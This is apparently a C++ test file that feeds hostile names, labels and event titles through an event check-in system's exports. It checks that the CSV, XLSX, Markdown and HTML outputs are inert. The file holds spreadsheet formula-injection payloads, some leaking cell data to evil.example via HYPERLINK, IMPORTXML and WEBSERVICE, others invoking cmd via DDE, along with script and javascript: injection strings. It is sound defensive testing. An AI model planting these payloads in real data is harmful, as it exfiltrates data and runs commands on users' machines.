// Formula and markup injection through the exports. Names, organizations, category labels and
// the event's name carry formulas (every lead a spreadsheet runs × formula bodies, behind spaces,
// byte order marks and in full-width forms) and Markdown/HTML markup; zones and desk ids carry
// what their identifier syntax allows ("-A1"). They are imported (rows the importer refuses are
// written straight into Redis, as old data would be), scanned at desks, and then every export
// table × every format (the export code's own lists, so a new one is covered without a new case)
// is fetched over HTTP and from rollcall-export and read as a spreadsheet or a renderer would:
// no CSV cell may start a formula, no XLSX cell may be a formula, and the reports must carry
// exactly the markup of the same report about a plain event.
#include <gtest/gtest.h>

#include <boost/json.hpp>

#include <algorithm>
#include <array>
#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <set>
#include <sstream>

#include "services/export/export_job.h"
#include "services/registry/csv_reader.h"
#include "services/store/keys.h"
#include "tests/support/gateway_process.h"
#include "tests/support/redis_server.h"
#include "tests/support/registry_fixture.h"
#include "tests/support/tokens.h"
#include "tools/client/desk_client.h"
#include "tools/client/http_get.h"

namespace rollcall::attack {
namespace {

using namespace std::chrono_literals;
using tests::support::GatewayProcess;
using tests::support::RedisServer;
namespace client = tools::client;
namespace ex = services::exporting;
namespace fs = std::filesystem;

constexpr const char* kHostile = "hostile";
constexpr const char* kPlain = "plain";

std::vector<std::string> formula_payloads() {
  std::vector<std::string> payloads;
  const std::array<const char*, 11> leads = {"=",  "+",      "-",      "@",      "\t",    "\r",
                                             "\n", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"};
  const std::array<const char*, 6> before = {"", " ", "   ", "\u00A0", "\uFEFF", "\u3000 "};
  const std::array<const char*, 7> bodies = {
      "HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
      "cmd|' /C calc'!A0",
      "SUM(1+1)*cmd|' /C calc'!A0",
      "1+1",
      "2+3",
      "IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")",
      "WEBSERVICE(\"http://evil.example/\")"};
  for (const char* lead : leads) {
    for (const char* space : before) {
      for (const char* body : bodies) payloads.push_back(std::string(space) + lead + body);
    }
  }
  for (const char* extra : {"@SUM(1+1)", "-2+3", "+1+1", "\t=1", "\r=1", "=1", "'=1", "\"=1\"",
                            "=1,=2", "=1;=2", "a\n=1", "a\r\n=1"}) {
    payloads.push_back(extra);
  }
  return payloads;
}

std::vector<std::string> markup_payloads() {
  return {"# Heading",
          "- item",
          "+ item",
          "* item",
          "1. item",
          "2025) item",
          "> quote",
          "    indented",
          "```code```",
          "| a | b |",
          "**bold** _it_ ~~s~~",
          "[l](http://evil.example)",
          "[x](javascript:alert(1))",
          "<a href=\"javascript:alert(1)\">x</a>",
          "![i](http://evil.example/x.png)",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "&lt;b&gt;",
          "line\nbreak # x",
          "===",
          "---",
          "$x^2$",
          "\x1b[31mred\x1b[0m",
          "\u0085next",
          "back\\slash"};
}

// What a spreadsheet does with a cell: skips leading spaces (ASCII, no-break, ideographic) and a
// byte order mark, and runs a formula that then starts; a cell starting with ' is text.
bool runs_as_formula(std::string_view cell) {
  static constexpr std::array<std::string_view, 4> kSkipped = {" ", "\u00A0", "\u3000", "\uFEFF"};
  static constexpr std::array<std::string_view, 11> kLeads = {
      "=", "+", "-", "@", "\t", "\r", "\n", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"};
  for (bool skipped = true; skipped;) {
    skipped = false;
    for (const auto lead : kLeads) {
      if (cell.starts_with(lead)) return true;
    }
    for (const auto space : kSkipped) {
      if (cell.starts_with(space)) {
        cell.remove_prefix(space.size());
        skipped = true;
      }
    }
  }
  return false;
}

std::string csv_cell(const std::string& text) {
  std::string quoted = "\"";
  for (char c : text) quoted += c == '"' ? std::string("\"\"") : std::string(1, c);
  return quoted + "\"";
}

bool has_control(std::string_view text) {
  return std::any_of(text.begin(), text.end(),
                     [](unsigned char c) { return c < 0x20 || c == 0x7f; });
}

// Markup a Markdown renderer would act on: unescaped inline characters, and what opens a block
// at the start of a line (heading, list, quote, ordered list, indented code).
std::size_t markdown_markup(const std::string& md) {
  std::size_t count = 0;
  bool line_start = true;
  for (std::size_t i = 0; i < md.size(); ++i) {
    const char c = md[i];
    if (c == '\\' && i + 1 < md.size() && std::ispunct(static_cast<unsigned char>(md[i + 1]))) {
      ++i;
      line_start = false;
      continue;
    }
    if (std::string_view("`*_[]<>|~!&$").find(c) != std::string_view::npos) ++count;
    if (line_start) {
      const auto line = std::string_view(md).substr(i, md.find('\n', i) - i);
      const auto digits = line.find_first_not_of("0123456789");
      if (std::string_view("#+-=").find(c) != std::string_view::npos) ++count;
      if (digits > 0 && digits < line.size() && (line[digits] == '.' || line[digits] == ')')) {
        ++count;
      }
      if (line.starts_with("    ") || line.starts_with("\t")) ++count;
    }
    line_start = c == '\n';
  }
  return count;
}

std::size_t count_of(const std::string& text, char c) {
  return static_cast<std::size_t>(std::count(text.begin(), text.end(), c));
}

class ExportInjectionAttack : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::temp_directory_path() / ("rollcall-injection-" + std::to_string(::getpid()));
    fs::create_directories(dir_);
    payloads_ = formula_payloads();
    for (auto& markup : markup_payloads()) payloads_.push_back(std::move(markup));
    zones_ = {"hall", "-1", "-A1", "-cmd", "-2.3", "-SUM_1", "-A1-B2"};
    desks_ = {"desk-1", "-2", "-A1:B2", "-cmd:calc", "-SUM", "-x", "-1.5"};

    // The hostile event: one category per payload (its label the payload, a headline figure),
    // one badge per payload (name the payload, organization another one).
    boost::json::object event{{"event_id", kHostile},
                              {"name",
                               "=HYPERLINK(\"http://evil.example\",\"x\") # <b>*Summit*</b> "
                               "| [l](u) \n# injected"},
                              {"time_zone", "UTC"}};
    boost::json::array zones, categories;
    for (const auto& zone : zones_) zones.emplace_back(zone);
    for (std::size_t i = 0; i < payloads_.size(); ++i) {
      categories.emplace_back(boost::json::object{
          {"id", "c" + std::to_string(i)}, {"label", payloads_[i]}, {"headline", true}});
    }
    event["zones"] = zones;
    event["categories"] = categories;
    import_event(kHostile, event, [&](std::ostream& csv) {
      for (std::size_t i = 0; i < payloads_.size(); ++i) {
        csv << "X" << i << ",CH,c" << i << "," << csv_cell(payloads_[i]) << ","
            << csv_cell(payloads_[(i + 7) % payloads_.size()]) << "\n";
      }
    });
    // Names the importer refuses (control characters) reach Redis anyway in old data.
    for (std::size_t i = 0; i < payloads_.size(); ++i) {
      const auto badge = services::store::badge_key(kHostile, "X" + std::to_string(i));
      if (redis_.command({"HGET", badge, "name"}).empty()) {
        redis_.command({"HSET", badge, "country", "CH", "category", "c" + std::to_string(i), "name",
                        payloads_[i], "organization", payloads_[(i + 7) % payloads_.size()]});
        redis_.command({"SADD", services::store::badges_key(kHostile), "X" + std::to_string(i)});
        ++written_directly_;
      }
    }

    // The plain event: the same shape in harmless words, for the reports to be compared with.
    boost::json::object plain{{"event_id", kPlain}, {"name", "Plain"}, {"time_zone", "UTC"}};
    boost::json::array plain_categories;
    for (std::size_t i = 0; i < payloads_.size(); ++i) {
      plain_categories.emplace_back(boost::json::object{{"id", "c" + std::to_string(i)},
                                                        {"label", "Label " + std::to_string(i)},
                                                        {"headline", true}});
    }
    plain["categories"] = plain_categories;
    import_event(kPlain, plain, [](std::ostream& csv) { csv << "P0,CH,c0,Plain Person,Org\n"; });

    gateway_ = std::make_unique<GatewayProcess>(redis_.url());
    organizer_[kHostile] = tests::support::issue_token(redis_, kHostile, v1::organizer);
    organizer_[kPlain] = tests::support::issue_token(redis_, kPlain, v1::organizer);
  }

  void TearDown() override {
    EXPECT_TRUE(gateway_->alive()) << gateway_->log();
    std::error_code ec;
    fs::remove_all(dir_, ec);
  }

  void import_event(const std::string& event_id, const boost::json::object& event,
                    const std::function<void(std::ostream&)>& rows) {
    std::ostringstream csv;
    csv << "badge_id,country,category,name,organization\n";
    rows(csv);
    ASSERT_TRUE(tests::support::import_registry(redis_, event_id, csv.str(),
                                                {.file_name = event_id + ".csv",
                                                 .event_json = boost::json::serialize(event),
                                                 .extra_args = {"--skip-invalid"}}));
  }

  void scan_everyone(const std::string& event_id, const std::vector<std::string>& badges) {
    client::DeskClient desk;
    desk.set_token(tests::support::issue_token(redis_, event_id, v1::desk));
    desk.connect(gateway_->host(), gateway_->port(), event_id, client::Encoding::binary);
    for (std::size_t i = 0; i < badges.size(); ++i) {
      v1::ScanRequest request;
      request.set_scan_id("s" + std::to_string(i));
      request.set_badge_id(badges[i]);
      request.set_desk_id(event_id == kHostile ? desks_[i % desks_.size()] : "desk-1");
      request.set_zone(event_id == kHostile ? zones_[i % zones_.size()] : "hall");
      request.set_direction(v1::in);
      const auto result = desk.scan(request, 10s);
      ASSERT_EQ(result.status(), v1::accepted) << badges[i] << ": " << result.reason();
    }
  }

  // One export over HTTP and from the CLI: {HTTP status, body}, {exit code, file}.
  struct Fetched {
    int status = 0;
    std::string http;
    int code = 0;
    std::string cli;
  };
  Fetched fetch(const std::string& event_id, std::string_view table, std::string_view format) {
    Fetched f;
    const auto name = std::string(table) + "." + std::string(format);
    const auto r = client::http_get(gateway_->host(), gateway_->port(),
                                    "/v1/events/" + event_id + "/exports/" + name,
                                    client::bearer(organizer_[event_id]), 60s);
    f.status = r.status;
    f.http = r.body;
    const auto out = dir_ / (event_id + "-" + name);
    std::string output;
    f.code = tests::support::run_program(
        {ROLLCALL_EXPORT_BIN, std::string(table), "--event", event_id, "--format",
         std::string(format), "--out", out.string(), "--redis", redis_.url()},
        &output);
    std::ifstream in(out, std::ios::binary);
    f.cli.assign(std::istreambuf_iterator<char>(in), {});
    if (f.code != 0) f.cli = output;
    return f;
  }

  // Every cell of every row; the CSV must parse.
  static std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
    std::istringstream in(text);
    services::registry::CsvReader reader(in);
    std::vector<std::vector<std::string>> rows;
    while (auto record = reader.next()) {
      EXPECT_TRUE(record->ok()) << record->error;
      rows.push_back(record->fields);
    }
    EXPECT_FALSE(reader.broken());
    return rows;
  }

  // Each worksheet's XML, read with Python's zipfile as any reader of the format would.
  std::string worksheets(const std::string& xlsx) {
    const auto path = dir_ / "book.xlsx";
    std::ofstream(path, std::ios::binary) << xlsx;
    std::string xml;
    EXPECT_EQ(tests::support::run_program(
                  {"/usr/bin/python3", "-c",
                   "import sys, zipfile\n"
                   "book = zipfile.ZipFile(sys.argv[1])\n"
                   "assert book.testzip() is None\n"
                   "for name in book.namelist():\n"
                   "    if name.startswith('xl/worksheets/'): print(book.read(name).decode())\n",
                   path.string()},
                  &xml),
              0)
        << xml;
    return xml;
  }

  RedisServer redis_;
  std::unique_ptr<GatewayProcess> gateway_;
  std::map<std::string, std::string> organizer_;
  fs::path dir_;
  std::vector<std::string> payloads_, zones_, desks_;
  int written_directly_ = 0;
};

TEST_F(ExportInjectionAttack, EveryExportInEveryFormatIsInert) {
  std::vector<std::string> badges;
  for (std::size_t i = 0; i < payloads_.size(); ++i) badges.push_back("X" + std::to_string(i));
  scan_everyone(kHostile, badges);
  scan_everyone(kPlain, {"P0"});

  std::size_t exports = 0, refused = 0, cells = 0, neutralised = 0;
  for (const auto table : ex::table_names()) {
    for (const auto format : ex::format_names()) {
      const auto what = std::string(table) + "." + std::string(format);
      const auto f = fetch(kHostile, table, format);
      ex::ExportOptions options{*ex::parse_table(table), *ex::parse_format(format)};
      if (!ex::options_problem(options).empty()) {
        EXPECT_EQ(f.status, 400) << what;
        EXPECT_EQ(f.code, 2) << what << ": " << f.cli;
        ++refused;
        continue;
      }
      ASSERT_EQ(f.status, 200) << what << ": " << f.http.substr(0, 500);
      ASSERT_EQ(f.code, 0) << what << ": " << f.cli.substr(0, 500);
      ++exports;
      for (const auto* body : {&f.http, &f.cli}) {
        const auto via = what + (body == &f.http ? " over HTTP" : " from the CLI");
        if (format == "csv") {
          const auto rows = parse_csv(*body);
          std::set<std::string> seen;
          for (const auto& row : rows) {
            for (const auto& cell : row) {
              ++cells;
              EXPECT_FALSE(runs_as_formula(cell)) << via << ": " << ::testing::PrintToString(cell);
              neutralised += cell.starts_with("'");
              seen.insert(cell);
              if (cell.starts_with("'")) seen.insert(cell.substr(1));
            }
          }
          // Kept, not lost: every name is there, behind at most one quote.
          if (table == "attendees") {
            for (const auto& payload : payloads_) {
              EXPECT_TRUE(seen.contains(payload))
                  << via << ": " << ::testing::PrintToString(payload);
            }
          }
        } else if (format == "json") {
          // One document: strings stay strings, whatever they begin with.
          boost::system::error_code ec;
          const auto document = boost::json::parse(*body, ec);
          EXPECT_FALSE(ec) << via << ": " << body->substr(0, 500);
          EXPECT_TRUE(document.is_array()) << via;
        } else if (format == "jsonl") {
          std::istringstream lines(*body);
          for (std::string line; std::getline(lines, line);) {
            boost::system::error_code ec;
            boost::json::parse(line, ec);
            EXPECT_FALSE(ec) << via << ": " << line;
          }
        } else if (format == "xlsx") {
          const auto xml = worksheets(*body);
          EXPECT_NE(xml.find("<sheetData>"), std::string::npos) << via;
          EXPECT_EQ(xml.find("<f>"), std::string::npos) << via;
          EXPECT_EQ(xml.find("<f "), std::string::npos) << via;
          EXPECT_EQ(xml.find("t=\"str\""), std::string::npos) << via;  // a formula's result
        } else {
          // A report: exactly the markup of the same report about the plain event.
          const auto plain = fetch(kPlain, table, format);
          ASSERT_EQ(plain.status, 200);
          if (format == "md") {
            EXPECT_EQ(markdown_markup(*body), markdown_markup(plain.http)) << via << "\n" << *body;
            EXPECT_EQ(count_of(*body, '\n'), count_of(plain.http, '\n')) << via;
          } else if (format == "html") {
            EXPECT_EQ(count_of(*body, '<'), count_of(plain.http, '<')) << via;
            EXPECT_EQ(count_of(*body, '>'), count_of(plain.http, '>')) << via;
            EXPECT_EQ(body->find("<script"), std::string::npos) << via;
          } else {
            EXPECT_EQ(count_of(*body, '\n'), count_of(plain.http, '\n')) << via;
            std::string without_newlines = *body;
            std::erase(without_newlines, '\n');
            EXPECT_FALSE(has_control(without_newlines)) << via;
            EXPECT_EQ(body->find("\u0085"), std::string::npos) << via;
          }
        }
      }
    }
  }
  // Every table and every format was tried, through both doors.
  EXPECT_EQ(exports + refused, ex::table_names().size() * ex::format_names().size());
  EXPECT_GT(neutralised, payloads_.size());
  EXPECT_GT(written_directly_, 0);
  std::cout << payloads_.size() << " payloads (" << written_directly_
            << " names only old data can hold), " << zones_.size() << " zones, " << desks_.size()
            << " desks; " << exports << " exports (x2: HTTP and CLI), " << refused
            << " pairs refused; " << cells << " CSV cells read, " << neutralised
            << " neutralised\n";
}

}  // namespace
}  // namespace rollcall::attack
